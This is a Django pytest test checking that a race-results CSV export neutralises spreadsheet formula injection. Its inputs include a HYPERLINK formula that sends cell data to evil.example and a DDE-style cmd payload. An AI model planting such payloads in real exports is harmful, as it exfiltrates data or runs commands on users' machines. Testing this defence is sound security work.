"""The public results CSV carries text that drivers and staff typed: a spreadsheet must show it,
never run it. Numbers we compute stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from events.models import Event, Session
from events.services.results import publish_results
from tests.events.results.conftest import line

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_every_text_cell_that_starts_a_formula_gets_a_leading_quote(
    client: Client, finished_event: Event, race: Session
) -> None:
    publish_results(
        session=race,
        source="typed",
        official=True,
        lines=[
            line(
                "7",
                1,
                driver_name=HYPERLINK,
                team_name="+cmd|' /C calc'!A0",
                class_name="-2+3",
                laps=3,
                total_ms=270_000,
                penalty_ms=5_000,
                penalty_reason="@SUM(1+1)",
            ),
            line("23", 2, driver_name="张敏", team_name="\t=1+1", laps=3, total_ms=280_000),
            line("5", None, driver_name="\r=2+2", laps=1),
        ],
    )
    # A row typed before the services trimmed text, or arriving by another path, is written too.
    race.result.rows.filter(car_number="5").update(driver_name="\r=2+2", team_name="\t-1")

    response = client.get(
        reverse("events:session-results-csv", args=[finished_event.slug, race.pk])
    )

    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    first, second, third = rows
    assert first["driver"] == "'" + HYPERLINK
    assert first["team"] == "'+cmd|' /C calc'!A0"
    assert first["class"] == "'-2+3"
    assert first["penalty_reason"] == "'@SUM(1+1)"
    assert second["driver"] == "张敏"
    assert second["team"] == "'\t=1+1"
    assert second["gap"] == "'+5.000"  # 10 s behind, less the leader's 5 s penalty
    assert third["driver"] == "'\r=2+2"
    assert third["team"] == "'\t-1"
    assert (first["position"], first["laps"], second["position"]) == ("1", "3", "2")
    no_cell_starts_a_formula = all(
        not value.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows
        for value in row.values()
    )
    assert no_cell_starts_a_formula
